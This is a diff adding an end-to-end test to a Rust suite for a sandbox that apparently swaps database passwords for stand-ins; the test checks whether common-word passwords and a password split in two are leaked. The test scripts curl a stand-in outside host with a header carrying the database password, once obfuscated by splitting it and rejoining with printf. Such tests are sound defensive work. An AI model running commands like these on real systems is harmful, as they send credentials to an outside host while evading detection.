@@ -1,7 +1,7 @@
 //! Connections that are open: cancelled, revoked, bounded, with much in them.
 
 use super::{PSQL, rig, with_password};
-use standin_e2e::{Outcome, Rig};
+use standin_e2e::{DATABASE_PASSWORD, Outcome, Rig};
 
 /// Runs a program of Python's in the sandbox, with the means to ask by psql.
 fn python(rig: &Rig, script: &str) -> Outcome {
@@ -234,4 +234,27 @@ except (ssl.SSLError, OSError): print("another name is refused")
     let outcome = outcome.succeeded();
     let expected = "postgresql\n[b'SCRAM-SHA-256-PLUS', b'SCRAM-SHA-256']\nb'tea'\n";
     assert!(outcome.stdout.starts_with(expected), "{}\n{}", outcome.stdout, outcome.stderr);
+}
+
+/// A list of words, fetched from anywhere, tells nothing of a password that is among them.
+#[test]
+fn a_password_that_is_a_word_is_not_told_by_what_is_replaced() {
+    let words = "letmein hunter2hunter qwertyuiop";
+    let (rig, server) = rig("");
+    server.sql("postgres", "ALTER ROLE app PASSWORD 'hunter2hunter'");
+    let rig = rig
+        .variable("DATABASE_URL", "postgres://app:hunter2hunter@db.example/shop")
+        .with(&["--allow", "other.example"]);
+    let outcome = rig.script(&format!(
+        "{PSQL} $DATABASE_URL -c 'SELECT name FROM goods'; curl -sS -H 'X-Words: {words}' https://other.example/"
+    ));
+    let outcome = outcome.succeeded();
+    assert!(outcome.stdout.starts_with("tea\n") && outcome.stdout.contains(words), "{}", outcome.stdout);
+    // A longer one is in no list, and is looked for.
+    let rig = rig.variable("DATABASE_URL", &format!("postgres://app:{DATABASE_PASSWORD}@db.example/shop"));
+    let halves = DATABASE_PASSWORD.split_at(9);
+    let script = format!("curl -sS -H \"X-Words: {}$(printf %s {})\" https://other.example/", halves.0, halves.1);
+    let outcome = rig.script(&script).succeeded();
+    assert!(outcome.origin_got("x-words", DATABASE_PASSWORD), "{}", outcome.log);
+    assert!(outcome.stdout.contains("x-words") && !outcome.stdout.contains(DATABASE_PASSWORD), "{}", outcome.stdout);
 }
